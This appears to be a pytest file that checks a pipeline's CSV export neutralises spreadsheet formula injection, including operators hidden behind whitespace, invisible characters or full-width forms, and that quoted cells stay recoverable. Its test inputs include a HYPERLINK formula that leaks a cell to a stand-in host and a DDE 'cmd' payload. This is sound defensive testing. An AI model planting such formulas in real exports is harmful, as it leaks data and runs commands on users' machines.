"""CSV injection: whatever Finch or a customer typed, the exported cells are inert text and the
stored value can still be read back.

A spreadsheet runs a cell as a formula when it starts with `=`, `+`, `-` or `@` (tab and CR
too). Some also trim leading whitespace first (LibreOffice's "Trim spaces" import option) or
read the full-width forms (U+FF1D, U+FF0B, U+FF0D, U+FF20) as the ASCII operators (Excel
with a Japanese IME), so a cell is inert only if none of those can put an operator first.
The export's rule (export/table.py): such a cell gets one leading `'`; a cell that itself
starts with `'` gets another when what follows would, so dropping the quote is always
unambiguous.

Strings go through the real path: `/introspect`, `/employer/company` and `/providers`
bodies -> snapshot -> validation -> a DuckDB warehouse -> `export_state` -> a CSV file,
read back with Python's `csv` module.
"""

import csv
import io
import itertools
import secrets
import unicodedata
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hostile_helpers import (
    encode,
    introspection,
    load,
    providers,
    raw_frame,
    raw_row,
    run_against,
)
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from connections_pipeline.export import (
    Destination,
    ExportOptions,
    encode_csv,
    export_state,
    neutralise,
    restore,
)
from connections_pipeline.export.columns import DASHBOARD_COLUMNS
from connections_pipeline.warehouse import Warehouse

# How many examples each property tries (quoted by the README).
NEUTRALISE_EXAMPLES = 400
EXPORT_EXAMPLES = 20

OPERATORS = ("=", "+", "-", "@")
CONTROL_STARTS = ("\t", "\r")
QUOTE = "'"
FULL_WIDTH = ("\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b")
# What may precede the operator: spaces of every kind, invisible format characters, controls.
LEADERS = (
    " ",
    "  ",
    "\u00a0",
    "\u3000",
    "\u2003",
    "\n",
    "\t",
    "\r\n",
    "\x0b",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\u200f",
    "\x00",
)
EXTRA_COLUMNS = ("customer_email", "products", "provider_id", "working_token_fingerprint")


def _skippable(char: str) -> bool:
    return char.isspace() or unicodedata.category(char) in ("Cc", "Cf")


def runs_as_formula(cell: str) -> bool:
    """Whether some spreadsheet could read `cell` as a formula: a tab or CR first, or an
    operator (or a full-width form of it) first once leading whitespace and invisible
    characters are skipped."""
    if cell.startswith(CONTROL_STARTS):
        return True
    index = 0
    while index < len(cell) and _skippable(cell[index]):
        index += 1
    return unicodedata.normalize("NFKC", cell[index : index + 1]).startswith(OPERATORS)


def inert(cell: str) -> bool:
    """A cell is inert when it cannot run, or starts with the neutralising quote."""
    return cell.startswith(QUOTE) or not runs_as_formula(cell)


def recover(cell: str) -> str:
    """The stored text of an exported cell, by the documented rule: a leading `'` is dropped
    when what follows would have been neutralised."""
    if cell.startswith(QUOTE) and _needs_quote(cell[1:]):
        return cell[1:]
    return cell


def _needs_quote(text: str) -> bool:
    return runs_as_formula(text) or (text.startswith(QUOTE) and _needs_quote(text[1:]))


operators = st.sampled_from([*OPERATORS, *CONTROL_STARTS, *FULL_WIDTH])
injections = st.builds(
    lambda quotes, leaders, operator, tail: quotes + "".join(leaders) + operator + tail,
    st.sampled_from(["", "", "", QUOTE, QUOTE * 2, '"', '""', '"' + QUOTE]),
    st.lists(st.sampled_from(LEADERS), max_size=3),
    operators,
    st.one_of(
        st.sampled_from(
            [
                'HYPERLINK("http://x.test/?leak="&A1,"Click")',
                "cmd|' /C calc'!A0",
                "SUM(A1:A10)",
                "1+1",
                "2 Degrees Cooling Inc.",
                '"quoted", with comma\nand newline',
                "",
            ]
        ),
        st.text(max_size=20),
    ),
)
cell_texts = st.one_of(injections, st.text(max_size=30))


@settings(max_examples=NEUTRALISE_EXAMPLES, deadline=None, derandomize=True)
@given(text=cell_texts)
def test_neutralised_text_is_inert_and_recoverable(text: str) -> None:
    shown = neutralise(text)
    assert inert(shown), repr(shown)
    assert recover(shown) == text
    assert restore(shown) == text
    # Only a prefix is ever added, and only when needed.
    assert shown in (text, QUOTE + text)
    assert (shown != text) == _needs_quote(text)


@pytest.mark.parametrize(
    "text",
    [
        ' =HYPERLINK("http://x.test")',
        "\u00a0+1",
        "\n-2",
        "\u200b@SUM(A1)",
        "\ufeff=1+1",
        "\uff1dcmd|' /C calc'!A0",
        "\u3000\uff0b1",
    ],
)
def test_operators_behind_whitespace_or_in_full_width_are_neutralised(text: str) -> None:
    """Regression: only the six ASCII starts were caught, so a spreadsheet that trims
    spaces (or reads full-width operators) could still run these."""
    assert neutralise(text) == QUOTE + text


@pytest.mark.parametrize("text", ["'=1+1", "'+1", "''@x", "' =x"])
def test_a_quote_before_an_operator_is_kept_recoverable(text: str) -> None:
    """Regression: `'=1+1` was written unchanged, and the documented recovery (drop the
    quote before an operator) turned it into `=1+1`; now it gets a quote of its own."""
    assert neutralise(text) == QUOTE + text
    assert recover(neutralise(text)) == text


@pytest.mark.parametrize("text", ["'already quoted", "Acme = Fine", "", "O'Brien", "a-b"])
def test_harmless_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


# --- the real export path ------------------------------------------------------------------

_RUNS = itertools.count()


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Warehouse]:
    path = tmp_path_factory.mktemp("csv-injection") / "injection-warehouse.duckdb"
    with Warehouse(f"duckdb:///{path}", schema=f"hostile_{secrets.token_hex(4)}") as store:
        store.ensure_tables()
        yield store


@pytest.fixture(scope="module")
def export_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("csv-injection-files")


def _raw_rows(texts: list[str]) -> list[dict[str, Any]]:
    """One connection per text, the text in every field a person can type."""
    names = providers(*((f"p{n}", text) for n, text in enumerate(texts)))
    rows = [raw_row("providers", None, encode(names))]
    for n, text in enumerate(texts):
        fingerprint = f"fp-{n}"
        connection_id = f"conn-{n}"
        body = introspection(
            connection_id,
            customer_name=text,
            customer_id=text,
            company_id=text,
            customer_email=text,
            provider_id=f"p{n}",
            products=[text, "company"],
        )
        rows.append(raw_row("introspect", fingerprint, encode(body)))
        rows.append(
            raw_row(
                "company",
                fingerprint,
                encode({"id": "company-x", "legal_name": text}),
                connection_id=connection_id,
            )
        )
    return rows


def _cell(value: Any) -> str:
    """A stored value as the README says the file shows it (before neutralisation)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, datetime):
        return value.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    return str(value)


@settings(
    max_examples=EXPORT_EXAMPLES,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(texts=st.lists(cell_texts, min_size=1, max_size=5))
def test_injection_strings_come_out_of_the_export_inert_and_recoverable(
    warehouse: Warehouse, export_root: Path, texts: list[str]
) -> None:
    run = run_against(warehouse, raw_frame(_raw_rows(texts)), f"run-{next(_RUNS)}")
    load(warehouse, run)
    current = warehouse.read_current()
    folder = export_root / f"export-{next(_RUNS)}"
    folder.mkdir()
    options = ExportOptions(extra_columns=EXTRA_COLUMNS)
    written = export_state(
        current, "live", options, Destination(str(folder)), datetime(2026, 3, 2, tzinfo=UTC)
    )

    with open(written.latest_path, newline="", encoding="utf-8") as handle:
        header, *cells = list(csv.reader(handle))
    assert header == [name for name, _ in DASHBOARD_COLUMNS] + list(EXTRA_COLUMNS)
    for row in cells:
        for cell in row:
            assert inert(cell), repr(cell)

    # The file holds exactly the warehouse's live rows, each cell recoverable.
    live = current.filter(pl.col("state") == "live")
    columns = [column for _, column in DASHBOARD_COLUMNS] + list(EXTRA_COLUMNS)
    expected = sorted(
        [_cell(row[column]) for column in columns] for row in live.iter_rows(named=True)
    )
    assert sorted([recover(cell) for cell in row] for row in cells) == expected
    # Every hostile text that reached the warehouse reached the file.
    recovered = {recover(cell) for row in cells for cell in row}
    stored = {v for v in live["customer_name"].to_list() if v is not None}
    assert stored <= recovered
    assert len(cells) == written.rows == live.height


def test_the_csv_module_reads_neutralised_cells_cell_for_cell() -> None:
    """Quoting and neutralising together: the reader gets one cell per field back."""
    row = [neutralise(text) for text in ('=1,"2"', "\r=x", ' "=y"', "\uff20z\r\n")]
    read = list(
        csv.reader(io.StringIO(encode_csv(["a", "b", "c", "d"], [row]).decode(), newline=""))
    )
    assert read == [["a", "b", "c", "d"], row]
